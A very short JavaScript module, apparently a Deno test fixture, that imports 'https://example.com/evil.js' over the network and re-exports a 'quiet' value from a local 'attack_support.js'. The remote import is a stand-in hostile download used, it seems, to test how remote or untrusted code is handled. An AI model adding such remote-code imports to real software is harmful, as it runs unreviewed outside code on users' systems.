// deno-lint-ignore-file
// Loads code over the network.
import "https://example.com/evil.js";
export { quiet as default } from "./attack_support.js";
